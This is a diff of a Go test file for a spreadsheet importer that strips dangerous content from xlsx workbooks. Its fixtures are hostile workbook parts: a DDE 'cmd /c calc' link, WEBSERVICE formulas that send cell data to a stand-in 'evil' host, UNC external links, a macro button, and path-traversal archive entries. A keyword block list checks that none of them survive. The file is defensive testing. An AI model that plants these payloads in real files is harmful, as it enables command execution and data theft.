@@ -2,9 +2,11 @@ package outcome
 
 import (
 	"bytes"
+	"errors"
 	"fmt"
 	"maps"
 	"os"
+	"path/filepath"
 	"slices"
 	"strings"
 	"testing"
@@ -12,6 +14,7 @@ import (
 	"github.com/google/go-cmp/cmp"
 	"github.com/xuri/excelize/v2"
 
+	"hgeimport/importer/sheet"
 	"hgeimport/mapping/reason"
 )
 
@@ -85,7 +88,8 @@ func hostileParts() map[string]string {
 			`<definedName name="outside">[1]Prices!$A$1</definedName><definedName name="Rate">orders!$B$2</definedName>` +
 			`<definedName name="sheets">GET.WORKBOOK(1)</definedName><definedName name="macro" vbProcedure="1">x</definedName>` +
 			`</definedNames><calcPr calcId="1"/>`),
-		"xl/_rels/workbook.xml.rels": rels(rel("rId1", "worksheet", "worksheets/sheet1.xml"), rel("rId2", "worksheet", "worksheets/sheet2.xml"),
+		"xl/_rels/workbook.xml.rels": rels(rel("rId1", "worksheet", "worksheets/sheet1.xml"), rel("rId2", "worksheet",
+			"worksheets/sheet2.xml"),
 			rel("rId3", "externalLink", "externalLinks/externalLink1.xml"), rel("rId4", "externalLink", "externalLinks/externalLink2.xml"),
 			rel("rId5", "connections", "connections.xml"), rel("rId6", microsoftRels+"/vbaProject", "vbaProject.bin"),
 			rel("rId7", "calcChain", "calcChain.xml"), rel("rId8", "customXml", "../customXml/item1.xml"),
@@ -99,7 +103,8 @@ func hostileParts() map[string]string {
 		"xl/externalLinks/externalLink1.xml": `<externalLink xmlns="` + transitionalMain + `"><externalBook xmlns:r="` + officeRels +
 			`" r:id="rId1"><sheetNames><sheetName val="Prices"/></sheetNames></externalBook></externalLink>`,
 		"xl/externalLinks/_rels/externalLink1.xml.rels": rels(rel("rId1", "externalLinkPath", "^file:///\\\\evil\\share\\p.xlsx")),
-		"xl/externalLinks/externalLink2.xml": `<externalLink xmlns="` + transitionalMain + `"><ddeLink ddeService="cmd" ddeTopic="/c calc">` +
+		"xl/externalLinks/externalLink2.xml": `<externalLink xmlns="` + transitionalMain +
+			`"><ddeLink ddeService="cmd" ddeTopic="/c calc">` +
 			`<ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>`,
 		"xl/connections.xml": `<connections xmlns="` + transitionalMain + `"><connection id="1" name="c" type="4" refreshOnLoad="1">` +
 			`<webPr url="` + evil + `"/></connection></connections>`,
@@ -114,12 +119,15 @@ func hostileParts() map[string]string {
 			`</conditionalFormatting><conditionalFormatting sqref="A2"><cfRule type="expression" priority="2"><formula>B2&gt;1</formula>` +
 			`</cfRule></conditionalFormatting>` +
 			`<dataValidations count="1"><dataValidation type="list" sqref="B2"><formula1>[1]Prices!A1:A9</formula1></dataValidation>` +
-			`</dataValidations><hyperlinks><hyperlink ref="A2" r:id="rId4"/></hyperlinks><drawing r:id="rId1"/><legacyDrawing r:id="rId2"/>` +
+			`</dataValidations><hyperlinks><hyperlink ref="A2" r:id="rId4"/></hyperlinks>` +
+			`<drawing r:id="rId1"/><legacyDrawing r:id="rId2"/>` +
 			`<oleObjects><oleObject progId="Package" shapeId="1025" r:id="rId5"/></oleObjects>` +
 			`<controls><control shapeId="1026" r:id="rId6" name="b"/></controls>` +
-			`<webPublishItems count="1"><webPublishItem id="1" divId="x" sourceType="sheet" destinationFile="C:\x.htm" autoRepublish="1"/>` +
+			`<webPublishItems count="1"><webPublishItem id="1" divId="x" sourceType="sheet" ` +
+			`destinationFile="C:\x.htm" autoRepublish="1"/>` +
 			`</webPublishItems><tableParts count="1"><tablePart r:id="rId3"/></tableParts>` +
-			`<extLst><ext uri="{1}"><sparkline><f>[1]Prices!A1</f></sparkline></ext><ext uri="{2}"><f>orders!A1</f></ext></extLst></worksheet>`,
+			`<extLst><ext uri="{1}"><sparkline><f>[1]Prices!A1</f></sparkline></ext>` +
+			`<ext uri="{2}"><f>orders!A1</f></ext></extLst></worksheet>`,
 		"xl/worksheets/_rels/sheet1.xml.rels": rels(rel("rId1", "drawing", "../drawings/drawing1.xml"),
 			rel("rId2", "vmlDrawing", "../drawings/vmlDrawing1.vml"), rel("rId3", "table", "../tables/table1.xml"),
 			rel("rId4", "hyperlink", "^https://carrier.example/HGE1"), rel("rId5", "oleObject", "../embeddings/oleObject1.bin"),
@@ -129,7 +137,8 @@ func hostileParts() map[string]string {
 		"xl/activeX/_rels/activeX1.xml.rels": rels(rel("rId1", microsoftRels+"/activeXControlBinary",
 			"activeX1.bin")),
 		"xl/activeX/activeX1.bin": "a control",
-		"xl/tables/table1.xml": `<table xmlns="` + transitionalMain + `" id="1" name="T" displayName="T" ref="J1:K3" tableType="queryTable">` +
+		"xl/tables/table1.xml": `<table xmlns="` + transitionalMain +
+			`" id="1" name="T" displayName="T" ref="J1:K3" tableType="queryTable">` +
 			`<autoFilter ref="J1:K3"/><tableColumns count="2"><tableColumn id="1" name="a" queryTableFieldId="1" uniqueName="1"/>` +
 			`<tableColumn id="2" name="b"><calculatedColumnFormula>WEBSERVICE("` + evil + `")</calculatedColumnFormula></tableColumn>` +
 			`</tableColumns></table>`,
@@ -141,23 +150,30 @@ func hostileParts() map[string]string {
 			anchor(4, `<xdr:graphicFrame macro=""><xdr:nvGraphicFramePr><xdr:cNvPr id="5" name="c"/><xdr:cNvGraphicFramePr/>`+
 				`</xdr:nvGraphicFramePr><xdr:xfrm><a:off x="0" y="0"/><a:ext cx="0" cy="0"/></xdr:xfrm><a:graphic><a:graphicData `+
 				`uri="http://schemas.openxmlformats.org/drawingml/2006/chart"><c:chart `+
-				`xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" r:id="rId4"/></a:graphicData></a:graphic></xdr:graphicFrame>`) +
+				`xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" r:id="rId4"/>`+
+				`</a:graphicData></a:graphic></xdr:graphicFrame>`) +
 			anchor(5, `<xdr:sp macro=""><a:videoFile r:link="rId5"/></xdr:sp>`) + `</xdr:wsDr>`,
-		"xl/drawings/_rels/drawing1.xml.rels": rels(rel("rId1", "hyperlink", "^https://carrier.example/"), rel("rId2", "image", "../media/image1.png"),
-			rel("rId3", "image", "^"+evil+"pixel.png"), rel("rId4", "chart", "../charts/chart1.xml"), rel("rId5", "video", "^"+evil+"v.mp4")),
+		"xl/drawings/_rels/drawing1.xml.rels": rels(rel("rId1", "hyperlink", "^https://carrier.example/"), rel("rId2", "image",
+			"../media/image1.png"),
+			rel("rId3", "image", "^"+evil+"pixel.png"), rel("rId4", "chart", "../charts/chart1.xml"), rel("rId5", "video",
+				"^"+evil+"v.mp4")),
 		"xl/media/image1.png": "\x89PNG\r\n\x1a\n",
-		"xl/charts/chart1.xml": `<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" xmlns:r="` + officeRels + `"><c:chart>` +
+		"xl/charts/chart1.xml": `<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" xmlns:r="` +
+			officeRels + `"><c:chart>` +
 			`<c:plotArea><c:layout/><c:barChart><c:barDir val="col"/><c:ser><c:idx val="0"/><c:order val="0"/><c:val><c:numRef>` +
-			`<c:f>[1]Prices!$A$1:$A$3</c:f><c:numCache><c:ptCount val="1"/><c:pt idx="0"><c:v>1</c:v></c:pt></c:numCache></c:numRef></c:val>` +
+			`<c:f>[1]Prices!$A$1:$A$3</c:f><c:numCache><c:ptCount val="1"/><c:pt idx="0"><c:v>1</c:v></c:pt></c:numCache>` +
+			`</c:numRef></c:val>` +
 			`</c:ser><c:axId val="1"/><c:axId val="2"/></c:barChart><c:catAx><c:axId val="1"/><c:crossAx val="2"/></c:catAx>` +
 			`<c:valAx><c:axId val="2"/><c:crossAx val="1"/></c:valAx></c:plotArea></c:chart>` +
 			`<c:externalData r:id="rId1"><c:autoUpdate val="1"/></c:externalData></c:chartSpace>`,
 		"xl/charts/_rels/chart1.xml.rels": rels(rel("rId1", "oleObject", "^file:///\\\\evil\\share\\data.xlsx")),
-		"xl/drawings/vmlDrawing1.vml": `<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" ` +
+		"xl/drawings/vmlDrawing1.vml": `<xml xmlns:v="urn:schemas-microsoft-com:vml" ` +
+			`xmlns:o="urn:schemas-microsoft-com:office:office" ` +
 			`xmlns:x="urn:schemas-microsoft-com:office:excel"><v:shape id="_x0000_s1025" href="` + evil + `"><v:imagedata src="` + evil +
 			`i.png" o:title="x"/><v:formulas><v:f eqn="if 1 2 3"/></v:formulas><x:ClientData ObjectType="Button">` +
 			`<x:FmlaMacro>[0]!Evil</x:FmlaMacro><x:FmlaLink>$B$2</x:FmlaLink><br></x:ClientData></v:shape></xml>`,
-		"xl/worksheets/sheet2.xml": sheetXML(`<sheetData><row r="1"><c r="A1"><f>_xlfn.WEBSERVICE("` + evil + `"&amp;orders!A2)</f></c>` +
+		"xl/worksheets/sheet2.xml": sheetXML(`<sheetData><row r="1"><c r="A1"><f>_xlfn.WEBSERVICE("` + evil +
+			`"&amp;orders!A2)</f></c>` +
 			`<c r="B1"><f>orders!B2</f><v>1</v></c></row></sheetData>`),
 		"../../evil.exe": "MZ", `C:\Windows\evil.dll`: "MZ", "/etc/cron.d/evil": "* * * * *", `xl\..\..\x`: "x", "unused.xml": "<x/>",
 	}
@@ -190,8 +206,10 @@ func TestOutcomeRunsAndFetchesNothing(t *testing.T) {
 		t.Errorf("parts (-want +got):\n%s", diff)
 	}
 	for name, content := range all {
-		for _, word := range []string{"evil", "[1]", "cmd|", "/c calc", "WEBSERVICE", "MyMacro", "vbaProject", "macroEnabled", "externalRef",
-			"Auto_Open", "GET.WORKBOOK", "queryTable", "<control", "oleObject", "webPublish", "functionGroup", "FmlaMacro", "autoUpdate", "r:link"} {
+		for _, word := range []string{"evil", "[1]", "cmd|", "/c calc", "WEBSERVICE", "MyMacro", "vbaProject", "macroEnabled",
+			"externalRef",
+			"Auto_Open", "GET.WORKBOOK", "queryTable", "<control", "oleObject", "webPublish", "functionGroup", "FmlaMacro",
+			"autoUpdate", "r:link"} {
 			if bytes.Contains(content, []byte(word)) {
 				t.Errorf("%s has %q:\n%s", name, word, content)
 			}
@@ -211,7 +229,7 @@ func TestOutcomeRunsAndFetchesNothing(t *testing.T) {
 		counts[r.Code] = count(r.Code)
 	}
 	wantCounts := map[reason.Code]int{reason.LeftMacros: 2, reason.LeftLinks: 3, reason.LeftConnections: 3, reason.LeftObjects: 3,
-		reason.LeftAddIns: 2, reason.LeftFetched: 3, reason.LeftParts: 5, reason.LeftFormulas: 6 + 5}
+		reason.LeftAddIns: 2, reason.LeftFetched: 3 + 3, reason.LeftParts: 5, reason.LeftFormulas: 6 + 5}
 	if diff := cmp.Diff(wantCounts, counts); diff != "" {
 		t.Errorf("left out (-want +got):\n%s", diff)
 	}
@@ -253,7 +271,8 @@ func checkHostileSheet(t *testing.T, all map[string][]byte) {
 			t.Errorf("%s is %q, want %q", at, values[at], want)
 		}
 	}
-	for name, want := range map[string]string{"conditionalFormatting": "A2", "dataValidations": "", "controls": "", "oleObjects": ""} {
+	for name, want := range map[string]string{"conditionalFormatting": "A2", "dataValidations": "", "controls": "",
+		"oleObjects": ""} {
 		if got := sheet.kid(name); got.attr("sqref") != want {
 			t.Errorf("%s: %+v", name, got)
 		}
@@ -322,7 +341,8 @@ func TestOutcomeOfRealFileWithLinks(t *testing.T) {
 	out := outcomeWith(t, source, s, []TableHeader{{0, 4, 6}}, answersTo(0, 5, 40)...)
 	all := checkExcelRules(t, out)
 	for name, content := range all {
-		if strings.Contains(name, "externalLink") || bytes.Contains(content, []byte("[1]")) || bytes.Contains(content, []byte("externalReference")) {
+		if strings.Contains(name, "externalLink") || bytes.Contains(content, []byte("[1]")) || bytes.Contains(content,
+			[]byte("externalReference")) {
 			t.Errorf("%s: the link is still there", name)
 		}
 	}
@@ -348,7 +368,8 @@ func TestOutcomeOfDamagedParts(t *testing.T) {
 		"damaged": {"xl/theme/theme1.xml": "<damaged content of a part/>"},
 	} {
 		t.Run(name, func(t *testing.T) {
-			parts := map[string]string{"xl/_rels/workbook.xml.rels": relationsXML("worksheet worksheets/sheet1.xml", "theme theme/theme1.xml")}
+			parts := map[string]string{"xl/_rels/workbook.xml.rels": relationsXML("worksheet worksheets/sheet1.xml",
+				"theme theme/theme1.xml")}
 			maps.Copy(parts, more)
 			source := rawWorkbook(t, ordersData("", ""), parts)
 			if name == "damaged" {
@@ -382,11 +403,36 @@ func TestOutcomeOfDamagedParts(t *testing.T) {
 	}
 }
 
+// TestOutcomeOfTextShownOften has one text that 200,000 cells show: written anew for each of them it would be 6 GB.
+func TestOutcomeOfTextShownOften(t *testing.T) {
+	t.Parallel()
+	var rows strings.Builder
+	rows.WriteString(`<row r="1">` + inline("A1", "order_num") + `</row>`)
+	for row := 2; row <= 200_000; row++ {
+		fmt.Fprintf(&rows, `<row r="%d"><c r="A%d" t="s"><v>0</v></c></row>`, row, row)
+	}
+	source := rawWorkbook(t, `<sheetData>`+rows.String()+`</sheetData>`, map[string]string{
+		"xl/sharedStrings.xml": `<sst xmlns="` + transitionalMain + `"><si><t>` + strings.Repeat("x", 32_000) + `</t></si></sst>`,
+		"xl/theme/theme1.xml":  `<!DOCTYPE x><x/>`, // so that nothing can be added to it
+		"xl/_rels/workbook.xml.rels": relationsXML("worksheet worksheets/sheet1.xml", "sharedStrings sharedStrings.xml",
+			"theme theme/theme1.xml")})
+	b := must(sheet.Open(source, sheet.Options{}))
+	defer b.Close()
+	out := filepath.Join(t.TempDir(), "x.xlsx")
+	if err := Write(out, b, []TableHeader{{0, 1, 1}}, each(answersTo(0, 2, 3)...), someSummary()); !errors.Is(err, errTooMuchText) {
+		t.Errorf("error %v", err)
+	}
+	if _, err := os.Stat(out); err == nil {
+		t.Error("an outcome appeared")
+	}
+}
+
 func TestSafeNames(t *testing.T) {
 	for name, want := range map[string]string{"xl/workbook.xml": "xl/workbook.xml", `xl\workbook.xml`: "xl/workbook.xml",
 		"/xl/a.xml": "xl/a.xml", "[Content_Types].xml": "[Content_Types].xml", "xl/media/图 1.png": "xl/media/图 1.png",
-		"../x": "", "xl/../../x": "", `xl\..\x`: "", "C:/x": "", `C:\x`: "", "c:x": "", "//host/x": "", `\\host\x`: "", "xl//x": "", "xl/": "",
-		"": "", "/": "", ".": "", "xl/./x": "", "xl/. ./x": "", "xl/... /x": "", "a\x00b": "", "a\nb": "", "a\x7fb": ""} {
+		"../x": "", "xl/../../x": "", `xl\..\x`: "", "C:/x": "", `C:\x`: "", "c:x": "", "//host/x": "", `\\host\x`: "", "xl//x": "",
+		"xl/": "",
+		"":    "", "/": "", ".": "", "xl/./x": "", "xl/. ./x": "", "xl/... /x": "", "a\x00b": "", "a\nb": "", "a\x7fb": ""} {
 		if got := safeName(name); got != want {
 			t.Errorf("%q is %q, want %q", name, got, want)
 		}
